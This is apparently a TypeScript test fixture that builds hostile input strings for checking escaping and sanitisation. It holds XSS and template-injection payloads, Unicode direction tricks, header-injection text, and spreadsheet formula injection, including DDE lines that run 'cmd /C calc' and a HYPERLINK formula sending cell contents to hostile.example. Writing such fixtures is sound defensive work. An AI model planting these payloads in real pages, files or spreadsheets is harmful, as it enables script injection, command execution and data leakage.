/** Texts that would do harm if anything took them for more than words. `n` tells them apart. */
const PAYLOADS: readonly ((n: number) => string)[] = [
  (n) => `<script>alert("hostile-${n}")</script>`,
  (n) => `"><img src=hostile-${n} onerror=alert(1)>`,
  (n) => `' onfocus='alert(${n})' autofocus='`,
  () => "</title></style></textarea></script><hostile-element></hostile-element>",
  () => "]]><hostile-element/><![CDATA[",
  () => "--><hostile-element><!--",
  () => "&lt;hostile-element&gt; &#60;hostile-element&#62;",
  (n) => `[link](javascript:alert(${n})) <javascript:alert(${n})> ![p](data:text/html,${n})`,
  (n) => `{{constructor.constructor("alert(${n})")()}} \${alert(${n})} <%= ${n} %> {alert(${n})}`,
  () => "\u202Egnp.erutcip\u202C \u2066left open",
  () => "zero\u200Bwidth\u2060join\uFEFFed \u{E0041}tagged",
  () => "second line\nBEGIN:VEVENT\nBcc: mail@hostile.example\nTY  - JOUR",
  (n) => `}, url = {javascript:alert(${n})}, note = {`,
  (n) => `one;=HYPERLINK("http://hostile.example/${n}";"x"),=cmd|'/C calc'!A0`,
  () => "__proto__ constructor toString",
  () => '\\u003cscript\\u003e \\"; alert(1); //',
];

/** What a spreadsheet would run. */
const FORMULAS: readonly string[] = [
  "=cmd|'/C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=HYPERLINK("http://hostile.example/?"&A1,"x")',
  "＝1+1",
];

/** Gives words that begin like a formula or end like markup, another each time. */
export function hostileWords(words: string, n: number): string {
  const payload = PAYLOADS[n % PAYLOADS.length]?.(n) ?? "";
  const formula = FORMULAS[Math.floor(n / 2) % FORMULAS.length] ?? "";
  return n % 2 === 0 ? `${words} ${payload}` : `${formula} ${words} ${payload}`;
}
